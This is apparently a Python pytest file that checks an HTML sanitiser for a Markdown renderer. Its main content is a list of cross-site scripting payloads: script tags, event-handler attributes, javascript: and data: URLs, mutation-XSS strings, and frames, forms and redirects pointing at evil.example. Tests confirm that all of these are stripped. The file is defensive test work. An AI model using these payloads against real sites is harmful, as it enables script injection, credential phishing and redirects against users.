"""The sanitiser removes everything that a browser runs or loads, and names of the page."""

import re
from html.parser import HTMLParser

import pytest
from splitflap_core.contracts import FLAVOURS, Flavour
from splitflap_renderer.footnote_ids import FOOTNOTE_ID
from splitflap_renderer.html.sanitiser import ADDED_CLASSES, CLASSES, TAGS, final, sanitised
from splitflap_renderer.render import render

#: The hash of the sanitised text, and the hash of another text.
HASH, OTHER = "0123abcd", "4567ef01"

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<link rel=stylesheet href="https://evil.example"><base href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password type=password><button>x</form>',
    '<input type="image" src="https://evil.example" onfocus=alert(1) autofocus>',
    "<textarea autofocus onfocus=alert(1)></textarea><select onfocus=alert(1)>",
    '<video src=x onerror=alert(1)></video><audio src="https://evil.example" autoplay>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVa&#x0A;ScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "<javascript://x.example/%0aalert(1)>",
    "![x](javascript:alert(1))",
    '[x](https://x.example "onmouseover=alert(1) x=")',
    '[x](https://x.example/"onmouseover="alert(1))',
    '![x" onerror="alert(1)](https://x.example/i.png)',
    'https://x.example/"onmouseover="alert(1)',
    '<div id="location" class="modal admin-button" name="body">x</div>',
    '<a id="fn:1" name="getElementById" href="#top" target="_top" rel="opener">x</a>',
    'x[^<script>]\n\n[^<script>]: "><img src=x onerror=alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    '```{.python title="<script>alert(1)</script>" onclick="x"}\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php x ?><script>alert(1)</script>",
]


class Checker(HTMLParser):
    """Fails on elements and values beyond the allow-list. Its rules are written independently."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        """Check one attribute."""
        assert not name.startswith("on")
        assert name not in {"style", "name", "target", "srcdoc"}
        if name in {"href", "src"}:
            safe = value.startswith(("http://", "https://", "mailto:"))
            assert safe or FOOTNOTE_ID.fullmatch(value.removeprefix("#"))
        if name == "id":
            assert FOOTNOTE_ID.fullmatch(value)
        if name == "class":
            assert set(value.split()) <= CLASSES.get(tag, set()) | ADDED_CLASSES.get(tag, set())
        if name == "rel":
            assert value == "nofollow ugc noopener"
        if name == "type":
            assert (tag, value) == ("input", "checkbox")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_is_removed(text: str) -> None:
    """Each text is tried alone, in a paragraph, in a list and in a quote."""
    for shape in (text, f"a {text} b", f"- {text}\n- x", f"> {text}"):
        checker = Checker()
        checker.feed(render(shape).html)
        checker.close()


def test_scripts_and_styles_leave_no_text() -> None:
    """Their content is removed with the element."""
    assert sanitised("<script>alert(1)</script><style>p{}</style>ok", HASH) == "ok"


def test_every_link_is_marked() -> None:
    """`rel` has nofollow, ugc and noopener."""
    html = render('https://a.example <a href="https://b.example" rel="opener">b</a>').html
    assert html.count('rel="nofollow ugc noopener"') == html.count("<a ") == 2


def test_every_input_becomes_a_disabled_checkbox() -> None:
    """Type, name, value and form are dropped."""
    html = sanitised('<input type="text" name="q" value="v" checked form="f">', HASH)
    assert html == '<input type="checkbox" checked="" disabled="">'


def test_relative_urls_lose_their_href() -> None:
    """A URL without a scheme may lead only to a footnote of the text."""
    for url in ("/x", "x", "//x.example", "?q", "#top", "../x"):
        assert "href" not in render(f"[x]({url})").html


def test_a_url_with_control_characters_is_removed() -> None:
    """This holds for links and images."""
    for control in ("\x01", "\x1b", "\x7f", "\t"):
        assert "href" not in sanitised(f'<a href="https://x.example/{control}">x</a>', HASH)
        assert "src" not in sanitised(f'<img src="https://x.example/{control}">', HASH)


@pytest.mark.parametrize("flavour", FLAVOURS)
def test_a_text_cannot_use_the_ids_of_another(flavour: Flavour) -> None:
    """A link leads only to footnotes of its own text."""
    note = render("See[^1]\n\n[^1]: the true note", flavour).html
    found = re.search(r'id="(fn-[^"]+)"', note)
    assert found is not None
    spoof = f'<ul><li id="{found[1]}">spoofed</li></ul>'
    assert "id=" not in render(spoof, flavour).html
    own = f'<ul><li id="fn-{HASH}-1">x</li></ul>'
    for clean in (sanitised, lambda html, of: final(html, "user-content-", of)):
        assert "id=" in clean(own, HASH)
        assert "id=" not in clean(own, OTHER)


def test_each_allow_list_passes_only_its_own_ids() -> None:
    """Each list is tested alone: in sequence, one would hide a gap of the other."""
    for own in ('<ul><li id="forms">a</li></ul>', '<sup id="user-content-a">b</sup>'):
        assert "id=" not in sanitised(own, HASH)
    for added in (
        '<h1 id="forms">a</h1><h2 id="fn-0123abcd-1">b</h2>',
        '<ul><li id="user-content-0123abcd-a">a</li></ul>',
        '<h1 id="user-content-a">a</h1><h2 id="user-content-89abcdef-a">b</h2>',
    ):
        assert "id=" not in final(added, "user-content-", HASH)
    kept = '<h1 id="user-content-0123abcd-a">a</h1>\n<ul>\n<li id="fn-0123abcd-1">b</li>\n</ul>'
    assert final(kept, "user-content-", HASH) == kept


@pytest.mark.parametrize(
    ("size", "kept"),
    [
        *(("1", True), ("4096", True), ("120px", True), ("100%", True)),
        *(("4097", False), ("33554432", False), ("101%", False), ("0", False), ("-5", False)),
        *(("1e9", False), ("9" * 400, False), ("50.5", False), ("auto", False)),
    ],
)
def test_the_size_of_an_image_is_bounded(size: str, kept: bool) -> None:
    """Browsers draw an image as high as its attribute says: 33 million pixels."""
    image = f'<img src="https://i.example/a.png" width="{size}" height="{size}">'
    for clean in (sanitised, lambda html, salt: final(html, "user-content-", salt)):
        assert (f'width="{size}"' in clean(image, HASH)) == kept
        assert (f'height="{size}"' in clean(image, HASH)) == kept
